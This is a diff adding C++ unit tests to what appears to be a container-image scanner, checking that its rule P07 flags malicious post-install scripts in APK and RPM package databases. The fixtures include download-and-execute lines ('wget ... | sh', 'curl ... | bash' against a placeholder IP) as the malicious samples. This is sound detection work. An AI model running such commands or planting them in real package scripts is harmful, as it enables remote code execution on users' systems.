@@ -8,6 +8,8 @@
 #include "detect/image_builder.hpp"
 #include "formats/byte_stream.hpp"
 #include "layers/analyse.hpp"
+#include "support/rpm_header_writer.hpp"
+#include "support/rpmdb_writer.hpp"
 #include "support/tar_writer.hpp"
 #include "util/digest.hpp"
 
@@ -311,6 +313,52 @@ TEST(CoinAddress, FoundAtEveryPlace) {
     const auto view = view_of({test::TarWriter().file("big.txt", content).finish()});
     EXPECT_NE(find_rule(assess_view(view).warnings, "M04"), nullptr) << shift;
   }
+}
+
+TEST(PackageHooks, ScriptsOfApk) {
+  const std::string scripts =
+      test::TarWriter()
+          .file("good-1-r0.Q1abc.post-install", "#!/bin/sh\naddgroup -S app\nexit 0\n")
+          .file("bad-1-r0.Q1def.post-install", "#!/bin/sh\nwget -qO- http://192.0.2.3/x | sh\n")
+          .finish();
+  ImageBuilder image;
+  image.file("lib/apk/db/scripts.tar", scripts);
+  const Assessment found = image.assess();
+  const auto* finding = find_rule(found.threats, "P07");
+  ASSERT_NE(finding, nullptr);
+  EXPECT_EQ(finding->evidence.size(), 1U);
+  EXPECT_NE(finding->evidence[0].find("bad-1-r0"), std::string::npos);
+}
+
+TEST(PackageHooks, ScriptsOfRpm) {
+  const auto header = [](std::string_view name, std::string_view script) {
+    using Tag = formats::RpmTag;
+    return tests::RpmHeaderWriter()
+        .text(Tag::name, name)
+        .text(Tag::version, "1")
+        .text(Tag::release, "1")
+        .text(Tag::arch, "noarch")
+        .text(Tag::script_after_install, script)
+        .blob();
+  };
+  const Buffer database = tests::write_sqlite(
+      {{1, header("good", "ldconfig\ncp /tmp/x /y")}, {2, header("bad", "curl -s http://192.0.2.3/x | bash\n")}});
+  layers::AnalyseOptions options;
+  const auto* rpm = inventory::AnalyzerRegistry::find("rpm");
+  ASSERT_NE(rpm, nullptr);
+  options.sections = {{"inventory/rpm", "1", rpm->instance.get()}};
+  util::Profile profile;
+  const std::string tar = test::TarWriter().file("var/lib/rpm/rpmdb.sqlite", as_text(database)).finish();
+  const auto stream = formats::memory_stream(as_bytes(tar));
+  auto outcome = layers::analyse_layer(*stream, options, {}, util::no_progress(), profile);
+  model::Image image;
+  image.layers.push_back({"k", "", outcome.diff_id, "", 0, false});
+  const layers::ImageView view(image, {outcome.facts});
+  const Assessment found = assess_view(view, inventory::take_inventory(view));
+  const auto* finding = find_rule(found.threats, "P07");
+  ASSERT_NE(finding, nullptr);
+  ASSERT_EQ(finding->evidence.size(), 1U);
+  EXPECT_NE(finding->evidence[0].find("script of package bad after installation (see D01)"), std::string::npos);
 }
 
 }  // namespace
